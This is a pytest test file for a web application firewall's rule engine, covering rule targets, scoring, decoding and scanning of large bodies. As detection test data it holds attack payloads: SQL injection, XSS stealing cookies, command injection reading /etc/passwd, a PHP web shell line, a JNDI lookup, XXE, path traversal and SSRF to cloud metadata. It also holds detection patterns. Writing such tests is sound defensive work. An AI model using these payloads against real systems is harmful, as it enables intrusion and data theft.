"""rules/engine.py: targets, scoring, labels, chains, confidence and robustness, on small rulesets."""

import base64
import json
from urllib.parse import quote_plus

import pytest

from engine.features import Features
from engine.verdict import Source
from rules.engine import RuleEngine, confidence
from rules.plans import joined_pattern
from rules.targets import PER_KIND
from tests.factories import cms_page_save, padding_leaves

RULESET = """
name: unit
version: "7"
threshold: 5
rules:
  - {id: w1, targets: [args], operator: {regex: "alpha"}, severity: warning, tags: [sqli]}
  - {id: w2, targets: [args], operator: {regex: "beta"}, severity: warning, tags: [xss]}
  - {id: c1, targets: [args, cookies], transforms: [lowercase], operator: {phrases: [omega]}, tags: [rce]}
  - {id: short, targets: [args], operator: {regex: "gamma"}, max_length: 10, tags: [ssti]}
  - {id: long, targets: [args], operator: {regex: "gamma"}, min_length: 11, severity: notice, tags: [ssti]}
  - id: chained
    targets: [args]
    operator: {regex: "delta"}
    chain: [{targets: [headers:content-type], operator: {regex: "xml"}}]
    tags: [xxe]
  - {id: healthz, targets: [path], operator: {equals: /healthz}, score: 0, label: cache}
  - {id: no-ua, targets: [headers:user-agent], operator: {regex: ".", negate: true}, tags: [scanner]}
"""


@pytest.fixture(scope="module")
def engine(tmp_path_factory):
    path = tmp_path_factory.mktemp("rules") / "unit.yaml"
    path.write_text(RULESET)
    return RuleEngine.load(path)


def get(query="", path="/search", **headers):
    return Features.build("GET", path, query=query, headers=headers)


@pytest.mark.parametrize(
    "features,score,rules,label",
    [
        (get("q=alpha"), 3, ("w1",), "allow"),
        (get("q=alpha&r=beta"), 6, ("w1", "w2"), "block"),
        (get("q=alpha&r=alpha&s=alpha"), 3, ("w1",), "allow"),  # a rule counts once per request
        (get("q=OMEGA"), 5, ("c1",), "block"),
        (get("q=x", Cookie="s=omega"), 5, ("c1",), "block"),
        (get("q=gamma"), 5, ("short",), "block"),
        (get("q=gamma-and-more"), 2, ("long",), "allow"),
        (get("q=delta"), 0, (), "allow"),
        (get("q=delta", **{"Content-Type": "text/xml"}), 5, ("chained",), "block"),
        (get(path="/healthz"), 0, ("healthz",), "cache"),
        (get(path="/healthz", q="x"), 0, ("healthz",), "cache"),
        (get("q=x", **{"User-Agent": ""}), 5, ("no-ua",), "block"),
    ],
)
def test_scoring_and_decision(engine, features, score, rules, label):
    if "User-Agent" not in dict(features.headers):
        features = Features.build(features.method, features.path, features.query, features.headers + (("User-Agent", "t"),))
    result = engine.scan(features)
    assert (result.score, result.rules) == (score, rules)
    verdict = engine.evaluate(features)
    assert verdict.label == label
    assert verdict.source is Source.RULES
    assert verdict.model == "rules:unit@7"


BOUNDED = """
name: bounded
version: "1"
rules:
  - {id: short, targets: [args], transforms: [decode, nfkc, lowercase], operator: {regex: "gamma"}, max_length: 10, tags: [ssti]}
  - {id: long, targets: [args], transforms: [decode, nfkc, lowercase], operator: {regex: "gamma"}, min_length: 11, tags: [ssti]}
"""


@pytest.mark.parametrize(
    "query,short",
    [
        ("q=gamma", True),
        ("q=%67%61%6d%6d%61", True),  # 15 characters as sent, 5 as read
        ("q=%25%36%37amma", True),  # double percent-encoding
        ("q=%EF%BD%87%EF%BD%81%EF%BD%8D%EF%BD%8D%EF%BD%81", True),  # fullwidth, percent-encoded: 45 as sent
        ("q=%26%23103%3Bamma", True),  # an HTML entity
        ("q=gamma-and-more", False),  # 15 characters as read
        ("q=gamma%20and%20more", False),  # 15 as read
        ("q=gamma+and+more", False),
    ],
)
def test_length_bounds_read_the_value_as_decoded(tmp_path, query, short):
    """min_length and max_length bound what a value says, not how it was written: encoding a payload
    cannot stretch it past a rule for short values, nor shrink it below one for long values."""
    path = tmp_path / "bounded.yaml"
    path.write_text(BOUNDED)
    result = RuleEngine.load(path).scan(get(query, **{"User-Agent": "t"}))
    assert result.rules == (("short",) if short else ("long",))


def test_read_length_decodes_only_what_needs_it():
    from rules.plans import LARGE_VALUE, READ_CHAIN, read_length
    from rules.targets import Unit

    plain, encoded, big = Unit(("args",), "plain words 123"), Unit(("args",), "%EF%BC%8F" * 4), Unit(("args",), "%41" * LARGE_VALUE)
    assert read_length(plain) == 15 and READ_CHAIN not in plain.cache  # nothing to decode: no transform computed
    assert read_length(encoded) == 4 and encoded.cache[READ_CHAIN] == "////"  # the memo the usual chains start from
    assert read_length(big) == 3 * LARGE_VALUE and READ_CHAIN not in big.cache  # a large value is not decoded for it


def test_block_carries_attack_and_routing_tags(engine):
    f = Features.build("POST", "/api", query="q=alpha&r=beta", headers={"User-Agent": "t", "Cookie": "a=b"})
    verdict = engine.evaluate(f)
    assert verdict.label == "block"
    assert verdict.features == ("sqli", "xss", "auth", "unsafe_method")
    below = engine.evaluate(Features.build("POST", "/api", query="q=alpha", headers={"User-Agent": "t"}))
    assert below.label == "origin" and below.features == ("unsafe_method",)


def test_confidence_is_monotone():
    blocked = [confidence(s, 5) for s in range(5, 60)]
    passed = [confidence(s, 5) for s in range(0, 5)]
    assert blocked == sorted(blocked) and len(set(blocked)) == len(blocked)
    assert passed == sorted(passed, reverse=True)
    assert 0.5 < min(passed) and max(passed) <= 0.9 and 0.75 <= min(blocked) and max(blocked) < 1.0


def test_never_raises(engine, monkeypatch):
    weird = [
        Features.build("GET", "/\ud800", query="%ff%fe=%u0000&&&=", headers={"\x00": "\ud83d"}),
        Features.build("POST", "/", headers={"Content-Type": "multipart/form-data; boundary="}, body=b"--\r\n"),
        Features.build("POST", "/", headers={"Content-Type": "application/json"}, body=b"{" * 100000),
        Features.build("POST", "/", body=bytes(range(256)) * 100),
    ]
    for f in weird:
        assert engine.evaluate(f).label in ("block", "cache", "origin", "allow")

    def boom(_):
        raise RuntimeError("bug")

    monkeypatch.setattr(engine, "scan", boom)
    verdict = engine.evaluate(get("q=alpha&r=beta"))
    assert verdict.label == "allow" and verdict.source is Source.RULES


TARGET_RULESET = "name: targets\nrules:\n" + "\n".join(
    f"  - {{id: t-{t.replace(':', '-')}, targets: [{t}], operator: {{regex: 'Zq'}}, score: 1}}"
    for t in [
        "method", "path", "uri", "query_string", "query", "query_names", "form", "form_names", "json",
        "json_names", "xml", "args", "args_names", "uploads", "upload_names", "headers", "headers:x-one",
        "header_names", "header_list", "cookies", "cookie_names", "body", "client",
    ]
)  # fmt: skip


@pytest.fixture(scope="module")
def targets_engine(tmp_path_factory):
    path = tmp_path_factory.mktemp("rules") / "targets.yaml"
    path.write_text(TARGET_RULESET)
    return RuleEngine.load(path)


MULTIPART = (
    "--B\r\nContent-Disposition: form-data; name=\"Zqfield\"\r\n\r\nZq text\r\n"
    "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"Zq.php\"\r\nContent-Type: text/plain\r\n\r\n"
    "Zq file\r\n--B--\r\n"
)


@pytest.mark.parametrize(
    "features,expected",
    [
        (Features(method="ZqGET"), {"method"}),
        (Features.build("GET", "/Zq"), {"path", "uri"}),
        (Features.build("GET", "/", query="a=Zq"), {"query", "args", "query_string", "uri"}),
        (Features.build("GET", "/", query="Zq=1"), {"query_names", "args_names", "query_string", "uri"}),
        # a bare item that is not a plain token is data: a value as well as a name; a plain flag stays a name
        (Features.build("GET", "/", query="Zq%20x"), {"query", "args", "query_names", "args_names", "query_string", "uri"}),
        (Features.build("GET", "/", query="Zqx"), {"query_names", "args_names", "query_string", "uri"}),
        # declared JSON that does not parse is read as arguments too; NDJSON (many documents) is a body only
        (Features.build("POST", "/", body='{"a": Zq}', headers={"Content-Type": "application/json"}),
         {"json", "args", "body"}),
        (Features.build("POST", "/", body='{"a": Zq}', headers={"Content-Type": "application/vnd.api+json; charset=utf-8"}),
         {"json", "args", "body"}),
        (Features.build("POST", "/", body='{"a": 1}\n{"b": "Zq"}', headers={"Content-Type": "application/x-ndjson"}),
         {"body"}),
        (Features.build("POST", "/", body="a=Zq", headers={"Content-Type": "application/x-www-form-urlencoded"}),
         {"form", "args", "body"}),
        (Features.build("POST", "/", body="Zq=1", headers={"Content-Type": "application/x-www-form-urlencoded"}),
         {"form_names", "args_names", "body"}),
        (Features.build("POST", "/", body='{"a": {"b": "Zq"}}', headers={"Content-Type": "application/json"}),
         {"json", "args", "body"}),
        (Features.build("POST", "/", body='{"a": {"Zq": 1}}', headers={"Content-Type": "application/json"}),
         {"json_names", "args_names", "body"}),
        (Features.build("POST", "/", body=MULTIPART, headers={"Content-Type": "multipart/form-data; boundary=B"}),
         {"form", "args", "form_names", "args_names", "uploads", "upload_names", "body"}),
        (Features.build("GET", "/", headers={"X-One": "Zq"}), {"headers", "headers:x-one"}),
        (Features.build("GET", "/", headers={"X-Two": "Zq"}), {"headers"}),
        (Features.build("GET", "/", headers={"Zq": "1"}), set()),  # names are lower-cased: regex is case-sensitive
        (Features.build("GET", "/", headers={"X-Zqq": "1"}), set()),
        (Features.build("GET", "/", headers={"Cookie": "a=Zq"}), {"cookies"}),  # the raw Cookie header is not `headers`
        (Features.build("GET", "/", headers={"Cookie": "Zq=1"}), {"cookie_names"}),
        (Features.build("GET", "/", headers={"Accept": "text/Zq"}), set()),  # a quiet header in its usual shape
        (Features.build("GET", "/", headers={"Accept": "text/Zq'<"}), {"headers"}),  # ... and in an unusual one
        # an XML body's element text and attribute values are arguments; its comments and names are not
        (Features.build("POST", "/", body="<x>Zq</x>", headers={"Content-Type": "text/xml"}), {"xml", "args", "body"}),
        (Features.build("POST", "/", body='<x a="Zq"/>', headers={"Content-Type": "application/soap+xml"}), {"xml", "args", "body"}),
        (Features.build("POST", "/", body="<Zq><!-- Zq --></Zq>", headers={"Content-Type": "text/xml"}), {"body"}),
        (Features.build("POST", "/", body="<?xml version='1.0'?><x>Zq</x>"), {"xml", "args", "body"}),
        (Features.build("POST", "/", body="<p>Zq</p>", headers={"Content-Type": "text/html"}), {"body"}),
        (Features.build("GET", "/", client="Zq"), {"client"}),
    ],
)
def test_targets_select_their_parts(targets_engine, features, expected):
    got = {r[2:] for r in targets_engine.scan(features).rules}
    assert got == {t.replace(":", "-") for t in expected}


def test_header_names_and_list(tmp_path):
    path = tmp_path / "h.yaml"
    path.write_text(
        "rules:\n"
        "  - {id: name, targets: [header_names], operator: {equals: [proxy]}}\n"
        "  - {id: dup, targets: [header_list], operator: {regex: '(?s)(?:^|\\n)host\\n(?:.*\\n)?host\\n'}}\n"
    )
    engine = RuleEngine.load(path)
    assert engine.scan(Features.build("GET", "/", headers=[("Proxy", "x")])).rules == ("name",)
    two_hosts = [("Host", "a"), ("Accept", "*/*"), ("Host", "b")]
    assert engine.scan(Features.build("GET", "/", headers=two_hosts)).rules == ("dup",)
    assert engine.scan(Features.build("GET", "/", headers=two_hosts[:2])).rules == ()


def test_many_fields_are_joined_but_still_scanned(engine):
    leaves = [{"k": f"v{i}"} for i in range(5 * PER_KIND)] + [{"k": "omega"}]
    f = Features.build("POST", "/", body=json.dumps(leaves), headers={"Content-Type": "application/json", "User-Agent": "t"})
    assert engine.scan(f).rules == ("c1",)


def test_an_anchored_rule_reads_a_field_behind_hundreds_of_others(tmp_path):
    """A 50 KB JSON document of prose leaves: the value 200 fields down is still a unit of its own."""
    path = tmp_path / "a.yaml"
    path.write_text("rules:\n  - {id: anchored, targets: [args], operator: {regex: '^omega!$'}}\n")
    engine = RuleEngine.load(path)
    leaves = [{"note": f"line {i} of the export, with words"} for i in range(200)] + [{"k": "omega!"}]
    f = Features.build("POST", "/", body=json.dumps(leaves), headers={"Content-Type": "application/json"})
    assert 200 < PER_KIND and engine.scan(f).rules == ("anchored",)


PROSE = padding_leaves(PER_KIND + 50)  # past PER_KIND: a run


def _doc(leaves: list) -> Features:
    return Features.build("POST", "/", body=json.dumps(leaves), headers={"Content-Type": "application/json", "User-Agent": "t"})


ANCHORED = """
rules:
  - {id: anchored, targets: [args], operator: {regex: '^omega!$'}}
  - {id: start, targets: [args], transforms: [lowercase], operator: {regex: '(?:^|;)\\s*file:/'}}
  - {id: dotdot, targets: [args], operator: {regex: '^\\.\\./', unless: '^\\.\\./\\w+\\.css$'}, max_length: 64}
  - {id: words, targets: [args], transforms: [sqlcomments], operator: {regex: 'union select'}}
"""


@pytest.fixture(scope="module")
def anchored(tmp_path_factory):
    path = tmp_path_factory.mktemp("rules") / "anchored.yaml"
    path.write_text(ANCHORED)
    return RuleEngine.load(path)


@pytest.mark.parametrize("pattern,joined", [
    (r"^a$", r"(?:^|\x1f)a(?:$|\x1f)"),
    (r"(?:^|/)x", r"(?:(?:^|\x1f)|/)x"),
    (r"[^$^]\$\^", r"[^$^]\$\^"),  # in a class, or escaped: no anchor
    (r"[]^]a[[:alpha:]^]+$", r"[]^]a[[:alpha:]^]+(?:$|\x1f)"),
    (r"\Afoo\z", r"(?:\A|\x1f)foo(?:\z|\x1f)"),
    (r"\Q^a$\E^b", r"\Q^a$\E(?:^|\x1f)b"),  # quoted text is literal
])  # fmt: skip
def test_joined_pattern_anchors_at_each_value(pattern, joined):
    assert joined_pattern(pattern) == joined


@pytest.mark.parametrize("value,rules", [
    ("omega!", ("anchored",)), ("FILE:///etc/passwd", ("start",)), ("../config.php", ("dotdot",)),
    ("../article.css", ()), ("x omega!", ()), ("omega! x", ()), ("omega", ()),
])  # fmt: skip
def test_anchors_hold_at_each_value_of_a_run(anchored, value, rules):
    """Past PER_KIND values, a pattern anchored to a value's start or end (`^omega!$`) reads each value of the run,
    and an `unless` exemption holds there as it does on a value of its own. It used to match only the run's first
    or last value, so a `^\\s*file:/` or `^\\.\\./` value behind hundreds of others met no anchored rule."""
    f = _doc(PROSE + [{"k": value}] + PROSE[:3])
    assert anchored.scan(f).rules == rules
    assert anchored.scan(_doc([{"k": value}])).rules == rules  # as on a value of its own


def test_a_comment_in_one_value_of_a_run_hides_nothing_after_it(anchored):
    """`sqlcomments` reads `#` to the end of a line: in a run that line used to run on through the next values."""
    leaves = PROSE + [{"k": "see ticket #12"}, {"k": "1 union select 2"}]
    assert anchored.scan(_doc(leaves)).rules == ("words",)


def test_a_plain_value_meets_the_anchored_rules_among_other_plain_values():
    """Plain tokens (words, ids) of a kind are joined into one unit; an anchored rule reads each of them, so
    `cmd=whoami` is read beside `lang=en` as on its own. A bare `id` is a sort key, not a command."""
    engine = RuleEngine.load()
    for query in ("cmd=whoami", "lang=en&cmd=whoami", "cmd=whoami&lang=en&page=2"):
        assert engine.scan(get(query)).rules == ("rce-recon-command",), query
        assert engine.scan(get(query), read_whole=True).rules == ("rce-recon-command",), query
    for query in ("sort=id", "sort=id&order=asc", "field=hostname&page=2"):
        assert not engine.evaluate(get(query)).blocked, engine.explain(get(query))
    assert engine.scan(get("q=id;")).rules == ("rce-recon-command",)


def test_a_short_value_rule_reads_each_value_past_per_kind(engine):
    """Past PER_KIND values of one kind the rest is one joined unit; a rule bounded to short values reads each of
    its values at its own length, where the model did not read them (the rules alone, or a truncated verdict)."""
    leaves = [{"note": f"line {i} of the export, with words"} for i in range(PER_KIND + 50)] + [{"k": "gamma !"}]
    f = Features.build("POST", "/", body=json.dumps(leaves), headers={"Content-Type": "application/json", "User-Agent": "t"})
    assert engine.scan(f).rules == ("short",)
    assert [(rid, value) for rid, _, _, value in engine.explain(f)] == [("short", "gamma !")]
    # where the model read every value (the second look), the joined unit is one long value, as it always was
    assert engine.scan(f, read_whole=True).rules == ("long",)
    long_one = [{"note": f"line {i} of the export, with words"} for i in range(PER_KIND + 50)] + [{"k": "gamma " + "x" * 20}]
    f = Features.build("POST", "/", body=json.dumps(long_one), headers={"Content-Type": "application/json", "User-Agent": "t"})
    assert engine.scan(f).rules == ("long",)  # each bound holds for the value, not for the joined text


RECORDS = [{"id": i, "name": f"Customer number {i}", "note": f"Ordered {i % 7} items, delivered on time (ref #{i * 31})",
            "city": ["Paris", "Lyon", "Köln", "New York", "Dún Laoghaire"][i % 5], "contact": "Seán O'Brien"} for i in range(320)]  # fmt: skip
PAYLOADS = {"sqli": "1' union select username, password from users--", "xss": "<img src=x onerror=alert(document.cookie)>",
            "cmdi": "; cat /etc/passwd"}  # fmt: skip


def _json(records: list, q: str | None) -> Features:
    doc = {"items": records, **({"q": q} if q is not None else {})}
    return Features.build("POST", "/api/import", body=json.dumps(doc), headers={"Content-Type": "application/json", "User-Agent": "t"})


def _multipart(n: int, q: str | None) -> Features:
    parts = [f'--b0\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\nvalue number {i}, (ok)\r\n' for i in range(n)]
    if q is not None:
        parts.append(f'--b0\r\nContent-Disposition: form-data; name="q"\r\n\r\n{q}\r\n')
    body = "".join(parts) + "--b0--\r\n"
    return Features.build("POST", "/import", body=body, headers={"Content-Type": "multipart/form-data; boundary=b0", "User-Agent": "t"})


@pytest.mark.parametrize("cls", sorted(PAYLOADS))
def test_the_rules_alone_find_a_payload_behind_hundreds_of_records(cls):
    """A 40 KB JSON import of 320 records, the payload last: the rules alone (the model down) read it. They used
    to join every value past PER_KIND into one unit that the rules bounded to short values (libinjection
    among them) skipped, so SQL injection, XSS and command injection passed."""
    engine = RuleEngine.load()
    f = _json(RECORDS, PAYLOADS[cls])
    assert len(f.body) < 65536 and engine.evaluate(f).blocked, engine.scan(f)
    assert not engine.evaluate(_json(RECORDS, None)).blocked, engine.explain(_json(RECORDS, None))


@pytest.mark.parametrize("size", [300, 2000])
def test_the_rules_alone_read_the_fields_of_a_large_body(size):
    """A body over 64 KiB that the model did not read whole (the rules alone, or a truncated verdict) is read as
    its fields too, beside the one unit that the rules reading documents read: a SQL injection in one field of a
    170 KB multipart form is found. Before, only that one unit was read, and SQL injection passed."""
    engine = RuleEngine.load()
    bad, good = _multipart(size, PAYLOADS["sqli"]), _multipart(size, None)
    assert (len(bad.body) > 65536) is (size == 2000)
    assert "sqli-libinjection" in engine.scan(bad).rules and engine.evaluate(bad).blocked
    assert not engine.evaluate(good).blocked, engine.explain(good)


def test_values_past_the_4096th_field_are_read_one_by_one():
    """The engine reads a body's fields past the 4,096th as one REST field of `name=value` lines; the rules read
    each line as a value (its name apart too), so a payload behind 4,100 padding pairs meets libinjection."""
    from urllib.parse import quote_plus

    engine = RuleEngine.load()
    pad = "&".join(f"f{i}=" + quote_plus(f"value {i}, (ok)") for i in range(4100))
    bad = Features.build("POST", "/save", body=pad + "&q=" + quote_plus(PAYLOADS["sqli"]),
                         headers={"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "t"})  # fmt: skip
    good = Features.build("POST", "/save", body=pad, headers={"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "t"})
    assert len(bad.body) > 65536
    assert "sqli-libinjection" in engine.scan(bad).rules
    assert not engine.evaluate(good).blocked, engine.explain(good)


def test_joined_values_come_in_chunks_no_rule_skips_as_large():
    from rules.targets import CHUNK, units

    engine = RuleEngine.load()
    f = _json(RECORDS * 3, None)
    joined = [u for u in units(f, engine.wanted) if u.parts]
    assert joined and all(len(u.value) <= CHUNK for u in joined)
    assert sum(len(u.parts) for u in joined) > PER_KIND


def test_a_base64_value_is_also_read_decoded(tmp_path):
    path = tmp_path / "b.yaml"
    path.write_text("rules:\n  - {id: tag, targets: [args, headers], operator: {regex: '^ ?<script>'}}\n")
    engine = RuleEngine.load(path)
    token = base64.b64encode(b"<script>alert(1)</script>").decode()
    f = Features.build("GET", "/", query=f"data={token}")
    assert engine.scan(f).rules == ("tag",)
    assert [name for _, _, name, _ in engine.explain(f)] == ["data (base64)"]
    assert engine.scan(Features.build("GET", "/", headers={"X-Data": token})).rules == ("tag",)
    # the raw token stays a unit too, and a token that decodes to no text adds nothing
    assert engine.scan(Features.build("GET", "/", query="id=AAECAwQFBgcICQoLDA0ODw")).rules == ()


def test_attack_at_the_end_of_a_large_body_is_found():
    engine = RuleEngine.load()
    body = ("lorem ipsum dolor sit amet " * 40000) + "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"
    f = Features.build("POST", "/upload", body=body, headers={"Content-Type": "text/plain"})
    assert len(f.body) > 1_000_000
    verdict = engine.evaluate(f)
    assert verdict.label == "block" and "xxe" in verdict.features


LARGE_JSON = [{"id": i, "note": "fine text, nothing to see", "url": f"https://cdn.example/{i}.jpg"} for i in range(3000)]


@pytest.mark.parametrize(
    "ctype,benign,attack",
    [
        ("application/json", json.dumps(LARGE_JSON), json.dumps(LARGE_JSON + [{"q": "${jndi:ldap://e.example/a}"}])),
        ("application/x-www-form-urlencoded", "a=" + "x+" * 50000, "a=" + "x+" * 50000 + "&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("application/octet-stream", "\x00\x01" * 40000, "\x00\x01" * 40000 + "<?php system($_GET['c']); ?>"),
    ],
)
def test_large_bodies_are_scanned_whole(ctype, benign, attack):
    engine = RuleEngine.load()
    headers = {"Content-Type": ctype, "User-Agent": "t"}
    bad, good = Features.build("POST", "/in", body=attack, headers=headers), Features.build("POST", "/in", body=benign, headers=headers)
    assert len(good.body) > 65536
    assert engine.evaluate(bad).label == "block", engine.explain(bad)
    assert engine.evaluate(good).label != "block", engine.explain(good)


def test_a_large_body_the_model_read_whole_is_read_as_its_fields():
    """Over 64 KiB a body is one unit that every rule reading documents reads, because the model may have
    seen only its head and tail, and it is split into fields as a smaller one is, for the rules bounded to short
    values. Where the model read all of it (read_whole), only the fields are read: the SSI example in a long
    article is left to the model, a short injected field is read by the rules bounded to short values."""
    engine = RuleEngine.load()
    page = cms_page_save()
    assert len(page.body) > 65536
    assert engine.scan(page).rules == ("ssi-exec",)
    assert engine.scan(page, read_whole=True).rules == ()
    stacked = cms_page_save("&q=%27%3B+DROP+TABLE+users%3B+--")
    # not read whole by the model: the one unit for the rules that read documents, and the fields for the others
    assert {"ssi-exec", "sqli-libinjection", "sqli-stacked"} <= set(engine.scan(stacked).rules)
    assert {"sqli-libinjection", "sqli-stacked"} <= set(engine.scan(stacked, read_whole=True).rules)
    assert [rid for rid, *_ in engine.explain(stacked, read_whole=True)] == list(engine.scan(stacked, read_whole=True).rules)


@pytest.mark.parametrize("truncated, blocked", [(False, False), (True, True)])
def test_second_look_reads_a_large_body_whole_only_where_the_model_did_not(truncated, blocked):
    from engine.verdict import Verdict

    engine = RuleEngine.load()
    model = Verdict("origin", 0.9, source=Source.MODEL, model="m@1", truncated=truncated)
    assert engine.second_look(model, cms_page_save()).blocked is blocked


def _form_pairs(n: int, q: str | None) -> Features:
    body = "&".join(f"f{i}=value+number+{i}%2C+ok" for i in range(n)) + (f"&q={quote_plus(q)}" if q is not None else "")
    return Features.build("POST", "/import", body=body, headers={"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "t"})


def test_the_rules_alone_read_every_field_past_the_4096th():
    """A form of 8,000 pairs, the SQL injection last: the fields past the 4,096th are one REST field, of which the
    model reads 64 KiB (then its verdict is truncated); the rules read all of it. They used to read the same 64 KiB,
    and the payload, 117 KB into that field, passed the rules alone."""
    engine = RuleEngine.load()
    bad, good = _form_pairs(8000, PAYLOADS["sqli"]), _form_pairs(8000, None)
    assert len(bad.body) > 200_000 and "sqli-libinjection" in engine.scan(bad).rules
    assert not engine.evaluate(good).blocked, engine.explain(good)


UA = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")]


@pytest.mark.parametrize("method, path, query, tags, body, rules_decide", [
    ("GET", "/typo3conf/ext/news/Resources/Public/Css/news.css", "", ("scanner", "static"), b"", True),
    ("HEAD", "/site/images/logo.svg", "v=3", ("scanner",), b"", True),
    ("GET", "/components/com_x/assets/app.js", "", (), b"", True),  # a block with no attack tag at all
    ("GET", "/typo3conf/ext/news/Resources/Public/Css/news.css", "", ("scanner", "xss"), b"", False),  # another class
    ("POST", "/site/css/app.css", "", ("scanner",), b"a=1", False),
    ("GET", "/site/.git/config", "", ("scanner",), b"", False),
    ("GET", "/.well-known/../.env.css", "", ("scanner",), b"", False),  # a dot segment on the way
    ("GET", "/site/%2e%2e/etc/passwd.css", "", ("scanner",), b"", False),  # encoded
    ("GET", "/backup.zip", "", ("scanner",), b"", False),  # archives, dumps, texts and maps are what probes want
    ("GET", "/static/js/main.js.map", "", ("scanner",), b"", False),
    ("GET", "/wp-content/plugins/revslider/readme.txt", "", ("scanner",), b"", False),
])  # fmt: skip
def test_a_model_block_of_a_page_asset_as_a_probe_is_the_rules_to_decide(method, path, query, tags, body, rules_decide):
    from engine.verdict import Verdict
    from rules.engine import probe_of_asset

    engine = RuleEngine.load()
    f = Features.build(method, path, query, UA, body)
    model = Verdict("block", 0.99, tags, Source.MODEL, "m@1")
    assert probe_of_asset(model, f) is rules_decide
    decided = engine.second_look(model, f)
    if rules_decide:  # the default rules see a plain asset: its routing decision, said by the rules
        assert decided.source is Source.RULES and decided.label == "cache"
    else:
        assert decided is model


def test_the_rules_keep_blocking_a_probe_for_an_asset_that_they_recognise():
    from engine.verdict import Verdict

    engine = RuleEngine.load()
    model = Verdict("block", 0.99, ("scanner",), Source.MODEL, "m@1")
    scanner = Features.build("GET", "/site/css/app.css", "", [("User-Agent", "Nikto/2.5.0")])
    decided = engine.second_look(model, scanner)
    assert decided.blocked and decided.source is Source.RULES and "scanner" in decided.features
    traversal = Features.build("GET", "/static/app.css", "file=../../../../etc/passwd", UA)
    assert engine.second_look(model, traversal).blocked  # the query is still read


EXCEPT_RULES = """name: t
version: '1'
threshold: 5
rules:
  - id: loopback-url
    targets: [args]
    operator: {regex: "^http://127\\\\.0\\\\.0\\\\.1"}
    tags: [ssrf]
    except:
      - names: [redirect_uri, "redirect_uris[]"]
        with_args: [client_id, grant_type]
      - names: [next]
"""


@pytest.mark.parametrize("method, path, query, body, blocked", [
    ("GET", "/authorize", "client_id=a&redirect_uri=http://127.0.0.1:8765/", "", False),  # an identity provider's request
    ("POST", "/token", "", "grant_type=authorization_code&redirect_uri=http://127.0.0.1:8765/", False),
    ("POST", "/register", "", '{"client_name": "x", "client_id": "a", "redirect_uris": ["http://127.0.0.1/cb"]}', False),
    ("GET", "/cb", "redirect_uri=http://127.0.0.1:8765/", "", True),  # no client_id or grant_type: read as always
    ("GET", "/cb", "client_id=a&url=http://127.0.0.1:8765/", "", True),  # another argument: read as always
    ("GET", "/cb", "client_id=a&redirect_uri=x&state=http://127.0.0.1/", "", True),
    ("GET", "/login", "next=http://127.0.0.1/", "", False),  # an exception without with_args holds in any request
])  # fmt: skip
def test_a_rule_leaves_the_arguments_its_exceptions_name_alone(tmp_path, method, path, query, body, blocked):
    path_yaml = tmp_path / "r.yaml"
    path_yaml.write_text(EXCEPT_RULES)
    engine = RuleEngine.load(path_yaml)
    headers = {"Content-Type": "application/json" if body.startswith("{") else "application/x-www-form-urlencoded"}
    f = Features.build(method, path, query, headers=headers, body=body)
    assert engine.evaluate(f).blocked is blocked
    assert bool(engine.explain(f)) is blocked  # explain agrees with the scan


def test_the_default_rules_let_loopback_redirect_uris_of_identity_provider_requests_through():
    engine = RuleEngine.load()
    oauth = Features.build("GET", "/authorize", "response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2F&state=x")
    assert not engine.evaluate(oauth).blocked
    for q in ("url=http%3A%2F%2F127.0.0.1%3A8765%2F", "redirect_uri=http%3A%2F%2F127.0.0.1%3A8765%2F",
              "client_id=a&redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
              "client_id=a&redirect_uri=gopher%3A%2F%2F127.0.0.1%3A6379%2F_x"):  # fmt: skip
        assert engine.evaluate(Features.build("GET", "/cb", q)).blocked, q
